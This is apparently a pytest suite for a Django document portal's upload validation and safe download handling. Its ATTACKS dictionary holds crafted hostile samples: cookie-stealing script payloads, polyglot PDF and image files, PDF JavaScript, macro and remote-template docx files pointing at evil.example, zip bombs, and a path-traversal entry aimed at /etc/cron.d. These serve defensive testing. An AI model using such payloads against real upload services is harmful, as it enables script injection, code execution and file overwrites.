"""Only what we accept gets in, judged by its content, and comes out as a harmless download."""

import hashlib
import io
import os
import re
import signal
import struct
import tracemalloc
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import InMemoryUploadedFile, SimpleUploadedFile, TemporaryUploadedFile
from django.db import DatabaseError, OperationalError, connection, transaction
from django.test import RequestFactory
from django.utils import timezone
from PIL import Image
from pytest_django import Settings

from portal.documents import services
from portal.documents.downloads import file_response
from portal.documents.file_types import DOCX, OFD, PDF, XLSX, ZIP, judge
from portal.documents.models import StoredFile
from portal.documents.samples import uploads as samples
from portal.errors import InvalidInput
from portal.ledger.models import Ledger
from portal.organizations.models import Membership
from proxy_service.services import handling
from tests.cast import Cast
from tests.stages import make_request

PDF_BYTES = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SCRIPT = b"<script>alert(document.cookie)</script>"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def image(form: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "#0b4a8f").save(out, form, **options)
    return out.getvalue()


def archive(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def word(main: str = WORD, **more: bytes | str) -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    extra = {name.replace("__", "/"): content for name, content in more.items()}
    return archive({"[Content_Types].xml": types, "word/document.xml": "<w:document/>", **extra})


RELATIONSHIPS = "word___rels__settings.xml.rels"
REMOTE = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'


def relating(*attributes: str, encoding: str = "utf-8") -> dict[str, bytes]:
    """The part that says what another draws in, for ``word``."""
    inner = "".join(f"<Relationship {each}/>" for each in attributes)
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {RELATIONSHIPS: f'<Relationships xmlns="{space}">{inner}</Relationships>'.encode(encoding)}


def workbook() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def store(content: bytes, name: str) -> StoredFile:
    return services.store_upload(upload=SimpleUploadedFile(name, content), by=None)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        (PDF_BYTES, "申请表.pdf", PDF),
        (archive({"OFD.xml": "<ofd:OFD/>", "Doc_0/Document.xml": "<x/>"}), "执照.ofd", OFD),
        (word(), "方案.docx", DOCX),
        (
            word(
                **relating(
                    'Type="http://x/hyperlink" Target="https://www.gov.cn/" TargetMode="External"',
                    'Type="http://x/package" Target="embeddings/Table1.xlsx"',
                    'Type="http://x/image" Target="media/image1.png"',
                ),
                **{"word__embeddings__Table1.xlsx": workbook()},
            ),
            "图表.docx",
            DOCX,
        ),
        (workbook(), "清单.xlsx", XLSX),
        (archive({"申请表.pdf": PDF_BYTES}), "材料.zip", ZIP),
    ],
)
def test_accepted_kinds(content: bytes, name: str, content_type: str) -> None:
    stored = store(content, name)
    path = Path(settings.MEDIA_ROOT) / stored.file.name
    assert (stored.content_type, stored.size) == (content_type, len(content))
    assert path.read_bytes() == content
    assert stored.sha256 == stored.sent_sha256 == hashlib.sha256(content).hexdigest()
    assert stored.name == name.lower()
    assert path.stat().st_mode & 0o007 == 0


ATTACKS = {
    "empty": (b"", "空.pdf", "空的"),
    "html named pdf": (b"<!DOCTYPE html><html>" + SCRIPT, "表.pdf", "只接受"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "图.svg", "只接受"),
    "svg named png": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "图.png", "只接受"),
    "program": (b"MZ\x90\0" + b"\0" * 100, "表.pdf", "只接受"),
    "pdf with html in front": (SCRIPT + PDF_BYTES, "表.pdf", "只接受"),
    "pdf with html in its head": (b"%PDF-1.4\n" + SCRIPT + PDF_BYTES[9:], "表.pdf", "夹带"),
    "pdf with an archive behind": (PDF_BYTES + archive({"a.txt": "x"}), "表.pdf", "夹带"),
    "pdf with script": (
        PDF_BYTES.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"),
        "表.pdf",
        "脚本",
    ),
    "torn pdf": (PDF_BYTES[:-8], "表.pdf", "不完整"),
    "png with html behind": (image("PNG") + SCRIPT, "图.png", "夹带"),
    "png with html in its text": (
        image("PNG")[:-12] + png_chunk(b"tEXt", b"Comment\0" + SCRIPT) + image("PNG")[-12:],
        "图.png",
        "夹带",
    ),
    "torn png": (image("PNG")[:-20], "图.png", "损坏"),
    "jpeg with html in its comment": (image("JPEG", comment=SCRIPT), "图.jpg", "夹带"),
    "jpeg with html behind": (image("JPEG") + SCRIPT, "图.jpg", "损坏"),
    "jpeg with html and an end mark behind": (image("JPEG") + SCRIPT + b"\xff\xd9", "图.jpg", "夹带"),
    "jpeg without a size in its frame": (
        b"\xff\xd8\xff\xc0\0\x02" + b"\0" * 8 + b"\xff\xd9",
        "图.jpg",
        "损坏",
    ),
    "picture of a billion pixels": (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + png_chunk(b"IEND", b""),
        "图.png",
        "尺寸过大",
    ),
    "plain archive named docx": (archive({"a.pdf": PDF_BYTES}), "包.docx", "扩展名"),
    "office file of before 2007": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "文.doc",
        "旧版 Office",
    ),
    "workbook of another kind": (
        word("application/vnd.ms-powerpoint.presentation.main+xml"),
        "文.docx",
        "docx 和 xlsx",
    ),
    "test virus": (
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        "表.pdf",
        "只接受",
    ),
    "docx with macro part": (word(word__vbaProject_bin=b"x").replace(b"_bin", b".bin"), "文.docx", "宏"),
    "docm named docx": (word(WORD_MACRO), "文.docx", "宏"),
    "docx with embedded program": (word(word__embeddings__oleObject1=b"x"), "文.docx", "宏"),
    "docx with remote template": (
        archive(
            {
                "[Content_Types].xml": f'<Types><Override ContentType="{WORD}"/></Types>',
                "word/document.xml": "<w:document/>",
                "word/_rels/settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/>',
            }
        ),
        "文.docx",
        "外部",
    ),
    "docx with remote template, type last": (
        word(
            **relating(
                'TargetMode="External" Target="http://evil.example/t.dotm" Type="http://x/attachedTemplate"'
            )
        ),
        "文.docx",
        "外部",
    ),
    "docx with remote template, escaped": (
        word(
            **relating(
                'Type="http://x/attached&#84;emplate" Target="http://evil.example/t" TargetMode="&#69;xternal"'
            )
        ),
        "文.docx",
        "外部",
    ),
    "docx with remote template in UTF-16": (word(**relating(REMOTE, encoding="utf-16")), "文.docx", "外部"),
    "docx with remote template, name in capitals": (
        word(**{"word___rels__settings.xml.RELS": relating(REMOTE)[RELATIONSHIPS]}),
        "文.docx",
        "外部",
    ),
    "docx with a picture from elsewhere": (
        word(**relating('Type="http://x/image" Target="//evil.example/p.png" TargetMode="External"')),
        "文.docx",
        "外部",
    ),
    "docx with a document type": (
        word(**{RELATIONSHIPS: '<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>'}),
        "文.docx",
        "损坏",
    ),
    "docx with an object by another name": (
        word(**relating('Type="http://x/oleObject" Target="media/one.bin"'), word__media__one__bin=b"x"),
        "文.docx",
        "外部",
    ),
    "docx with a program for a package": (
        word(**relating('Type="http://x/package" Target="media/one"'), word__media__one=b"MZ"),
        "文.docx",
        "夹带",
    ),
    "docx with a package of macros": (
        word(
            **relating('Type="http://x/package" Target="/word/media/one"'), word__media__one=word(WORD_MACRO)
        ),
        "文.docx",
        "宏",
    ),
    "docm in UTF-16": (
        archive(
            {
                "[Content_Types].xml": f'<Types><Override ContentType="{WORD_MACRO}"/></Types>'.encode(
                    "utf-16"
                ),
                "word/document.xml": "<w:document/>",
            }
        ),
        "文.docx",
        "宏",
    ),
    "bomb": (word(word__media=b"\0" * 40_000_000), "文.docx", "过大"),
    "many entries": (archive({f"{n}": b"" for n in range(4000)}), "文.docx", "过大"),
    "climbing name": (archive({"../../etc/cron.d/x": "x", "OFD.xml": "<x/>"}), "文.ofd", "夹带"),
    "archive with something in front": (b"PK\x03\x04" + SCRIPT + word(), "文.docx", "夹带|损坏"),
    "archive with something behind": (word() + SCRIPT, "文.docx", "夹带"),
    "pdf named docx": (PDF_BYTES, "表.docx", "扩展名"),
    "pdf with two endings": (PDF_BYTES, "表.pdf.exe", "扩展名"),
    "too large": (PDF_BYTES + b"\n" * (20 * 1024 * 1024), "表.pdf", "20 MB"),
}


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_part_that_is_larger_than_it_says_is_not_unpacked_beyond_that(method: int) -> None:
    honest = archive({"[Content_Types].xml": b" " * (32 << 20), "word/document.xml": b""}, method)
    lying = honest.replace(struct.pack("<L", 32 << 20), struct.pack("<L", 4096))
    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput, match="已损坏或使用了不支持的压缩方式"):
            judge(io.BytesIO(lying), len(lying))
        assert tracemalloc.get_traced_memory()[1] < 16 << 20
    finally:
        tracemalloc.stop()


@pytest.mark.django_db
@pytest.mark.parametrize("attack", ATTACKS)
def test_refused_files_leave_nothing_behind(attack: str, tmp_path: Path, settings: Settings) -> None:
    settings.MEDIA_ROOT = tmp_path
    content, name, message = ATTACKS[attack]
    with pytest.raises(InvalidInput, match=message):
        store(content, name)
    assert not StoredFile.objects.exists()
    assert not list(tmp_path.iterdir())


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/申请表.pdf", "申请表.pdf"),
        ("C:\\文件\\申请表.PDF", "申请表.pdf"),
        ("申请\u202efdp.exe\u202c表.pdf", "申请fdp.exe表.pdf"),
        ("申\u0000请\n表.pdf", "申请 表.pdf"),
        ("长" * 300 + ".pdf", "长" * 120 + ".pdf"),
        ("哈米提·阿克木.pdf", "哈米提·阿克木.pdf"),
    ],
)
def test_names_lose_folders_and_unseen_characters(sent: str, kept: str) -> None:
    upload = InMemoryUploadedFile(io.BytesIO(PDF_BYTES), "file", None, "text/html", len(PDF_BYTES), None)
    upload._name = sent  # as it came over the wire, before Django shortens it
    assert services.store_upload(upload=upload, by=None).name == kept


def test_large_uploads_are_streamed_from_disk(ledger: Ledger, clerk: Membership) -> None:
    content = PDF_BYTES[:-6] + b" " * 5_000_000 + b"%%EOF\n"
    with TemporaryUploadedFile("图纸.pdf", "application/pdf", len(content), None) as upload:
        upload.write(content)
        stored = services.store_upload(upload=upload, by=clerk, ledger=ledger)
    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    assert (stored.ledger, stored.uploaded_by) == (ledger, clerk)


# What was written and came to nothing --------------------------------------------------------------


class Refused(Exception):
    """Something that goes wrong after the file was written."""


def on_disk(root: Path) -> set[str]:
    return {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}


def test_the_file_goes_with_the_transaction(
    transactional_db: None, tmp_path: Path, settings: Settings
) -> None:
    settings.MEDIA_ROOT = tmp_path
    with services.undone_with_uploads():
        kept = store(PDF_BYTES, "留.pdf")
        with pytest.raises(Refused), services.undone_with_uploads():
            store(PDF_BYTES, "撤.pdf")
            raise Refused
        assert on_disk(tmp_path) == {kept.file.name}, "a savepoint that was undone"
    with pytest.raises(Refused), services.undone_with_uploads():
        with services.undone_with_uploads():
            store(PDF_BYTES, "内.pdf")
        raise Refused
    assert on_disk(tmp_path) == {kept.file.name}, "what an inner act wrote goes with the outer one"
    assert list(StoredFile.objects.all()) == [kept]


def test_where_the_commit_is_in_doubt_the_file_stays(
    transactional_db: None, tmp_path: Path, settings: Settings
) -> None:
    settings.MEDIA_ROOT = tmp_path
    with pytest.raises(OperationalError), services.undone_with_uploads():
        store(PDF_BYTES, "表.pdf")
        raise OperationalError("server closed the connection unexpectedly")
    assert len(on_disk(tmp_path)) == 1, "the daily sweep judges it by the rows"


def killed_while_uploading() -> None:
    """A process of its own stores a file and is killed before the commit."""
    child = os.fork()
    if child == 0:
        try:
            # Kept in a name, for the parent's connection must not be closed here.
            _parents, connection.connection = connection.connection, None
            with services.undone_with_uploads():
                store(PDF_BYTES, "半途.pdf")
                os.kill(os.getpid(), signal.SIGKILL)
        finally:
            os._exit(1)
    assert os.waitpid(child, 0)[1] == signal.SIGKILL


@pytest.mark.fault
def test_the_daily_sweep_removes_what_a_killed_process_left(
    transactional_db: None, tmp_path: Path, settings: Settings
) -> None:
    settings.MEDIA_ROOT = tmp_path
    kept = store(PDF_BYTES, "留.pdf")
    killed_while_uploading()
    (left,) = on_disk(tmp_path) - {kept.file.name}
    half = tmp_path / "uploads" / "2026" / ".x.pdf.7.tmp"
    half.parent.mkdir(exist_ok=True)
    half.write_bytes(PDF_BYTES[:9])
    paper = tmp_path / "documents" / "1.pdf"
    paper.parent.mkdir()
    paper.write_bytes(PDF_BYTES)
    now = timezone.now()
    assert services.sweep_orphans(now=now + timedelta(hours=23)) == 0, "an upload may still be under way"
    assert left in on_disk(tmp_path)
    assert services.sweep_orphans(now=now + timedelta(hours=25)) == 2
    assert on_disk(tmp_path) == {kept.file.name, "documents/1.pdf"}


def test_an_act_that_fails_takes_its_file_along(
    transactional_db: None, cast: Cast, tmp_path: Path, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    request = make_request(cast, "received")
    settings.MEDIA_ROOT = tmp_path

    def refuse(**_entry: object) -> None:
        raise Refused

    monkeypatch.setattr("portal.ledger.services.append", refuse)
    with pytest.raises(Refused):
        handling.post_progress(
            matter=request.matters.get(), actor=cast.land_clerk, kind="review", attachment=samples.pdf("意见")
        )
    assert not on_disk(tmp_path)
    assert not request.matters.get().nodes.exists()


@pytest.mark.django_db
def test_download_is_an_attachment_that_nothing_can_run() -> None:
    stored = store(image("PNG"), "厂区·图.png")
    response = file_response(RequestFactory().get("/"), stored, inline=True)
    assert response["Content-Disposition"].startswith("attachment")
    assert "%E5%8E%82" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"]
    assert hashlib.sha256(b"".join(response.streaming_content)).hexdigest() == stored.sha256


@pytest.mark.django_db
def test_database_refuses_to_swap_an_upload() -> None:
    stored = store(PDF_BYTES, "表.pdf")
    with pytest.raises(DatabaseError, match="never changes"), transaction.atomic():
        StoredFile.objects.filter(pk=stored.pk).update(sha256="0" * 64)


def test_there_is_one_door() -> None:
    """Who makes rows of files, and who judges what is in one, stands here: whatever comes in passes these."""
    makes = re.compile(r"(?<!case )\bStoredFile\((?!models)|StoredFile\.objects\.(?:bulk_)?create\(")
    judges = re.compile(r"file_types import (?:\([^)]*|[^\n]*)\bjudge\b")
    found: dict[str, set[str]] = {"makes": set(), "judges": set()}
    for folder in ("portal", "delegation", "proxy_service"):
        for path in (Path(settings.BASE_DIR) / folder).rglob("*.py"):
            text, name = path.read_text(encoding="utf-8"), path.relative_to(settings.BASE_DIR).as_posix()
            found["makes"] |= {name} if makes.search(text) else set()
            found["judges"] |= {name} if judges.search(text) else set()
    assert found == {
        "makes": {"portal/documents/services/uploading.py"},
        # Spreadsheets that are read and not kept are judged where they are read.
        "judges": {
            "portal/documents/services/uploading.py",
            "portal/documents/zip_files.py",
            "portal/exchange/reading.py",
            "portal/workdays/workbook.py",
        },
    }
